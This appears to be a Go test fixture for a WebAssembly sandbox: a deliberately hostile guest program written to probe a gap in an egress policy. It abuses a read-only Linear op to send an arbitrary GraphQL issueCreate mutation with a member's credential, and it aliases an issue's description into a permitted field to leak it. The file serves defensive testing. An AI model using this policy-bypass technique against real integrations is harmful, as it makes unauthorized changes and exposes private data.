//go:build wasip1

// Command redteam_bodyjson is a hostile guest that uses what the egress
// policy does not check of a body_json op: the policy only requires the
// body to be a JSON object, not the op's body_json template. For a
// GraphQL manifest (Linear) the template's "query" is the whole op, so the
// guest can send any query or mutation with the member's credential
// through any op, and alias arbitrary fields into the names the op's pick
// keeps.
//
// "mutation" (run as linear.get_viewer, a read op) sends an issueCreate
// mutation for the team in the "team" arg. "alias" (run as
// linear.get_viewer) asks for issue ENG-1 and aliases its description
// into viewer.name, a picked field.
package main

import "github.com/elevenmessenger/pinned/host/testdata/hostile/hpin"

func main() {}

// jsonString quotes s as a JSON string (ASCII input only).
func jsonString(s string) string {
	out := []byte{'"'}
	for i := 0; i < len(s); i++ {
		switch c := s[i]; c {
		case '"', '\\':
			out = append(out, '\\', c)
		default:
			out = append(out, c)
		}
	}
	return string(append(out, '"'))
}

func post(query string) int32 {
	body := `{"query":` + jsonString(query) + `}`
	code := hpin.Request(`{"method":"POST","url":"https://api.linear.app/graphql","headers":[],"body":` + jsonString(body) + `}`)
	hpin.Print("code=" + hpin.Itoa(int64(code)) + "\n")
	return code
}

//go:wasmexport run
func run() int32 {
	name, args := hpin.Attack()
	switch name {
	case "mutation":
		team := ""
		if args != nil {
			if v := args.Get("team"); v != nil {
				team = v.S
			}
		}
		return post(`mutation { viewer: issueCreate(input: { teamId: "` + team + `", title: "created through get_viewer" }) { id: success name: lastSyncId } }`)
	case "alias":
		return post(`query { viewer: issue(id: "ENG-1") { id name: description displayName: title email: url } }`)
	}
	return -1
}
